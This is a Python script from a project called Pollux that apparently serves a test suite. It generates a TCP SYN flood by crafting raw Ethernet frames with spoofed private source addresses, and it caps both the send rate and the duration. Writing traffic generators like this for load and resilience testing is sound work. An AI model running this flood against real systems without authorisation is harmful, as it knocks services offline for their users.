#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
# Copyright(c) 2026 The Pollux authors
"""SYN flood for the dts: COUNT SYNs to DST_IP:PORT from random source
addresses (10.128.0.0/9) and ports, sent on IFACE as raw Ethernet frames
(built here, checksums included) at up to RATE per second, and never for
longer than MAX_S seconds. Prints one JSON line: how many were sent and
how long it took.

usage: syn_flood.py IFACE SRC_MAC DST_MAC DST_IP PORT COUNT RATE MAX_S SEED
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn_frame(src_mac: bytes, dst_mac: bytes, src: bytes, dst: bytes,
              sport: int, dport: int, seq: int) -> bytes:
    # MSS 1460, SACK-permitted, timestamps, window scale 7: what Linux sends.
    opts = (struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" +
            struct.pack("!BBII", 8, 10, seq & 0xFFFFFFFF, 0) +
            b"\x01" + b"\x03\x03\x07")
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0,
                      (20 + len(opts)) // 4 << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000,
                     64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main() -> int:
    iface, smac, dmac, dst_ip = sys.argv[1:5]
    port, count, rate = int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7])
    max_s, seed = float(sys.argv[8]), int(sys.argv[9])
    rng = random.Random(seed)
    src_mac = bytes.fromhex(smac.replace(":", ""))
    dst_mac = bytes.fromhex(dmac.replace(":", ""))
    dst = socket.inet_aton(dst_ip)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    t0 = time.monotonic()
    sent = 0
    batch = max(1, rate // 100)
    while sent < count and time.monotonic() - t0 < max_s:
        for _ in range(min(batch, count - sent)):
            src = struct.pack("!I", (10 << 24) | (1 << 23) |
                              rng.randrange(1 << 23))
            s.send(syn_frame(src_mac, dst_mac, src, dst,
                             rng.randrange(1024, 65536), port,
                             rng.randrange(1 << 32)))
            sent += 1
        # pace: the batch's share of a second
        ahead = sent / rate - (time.monotonic() - t0)
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - t0}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
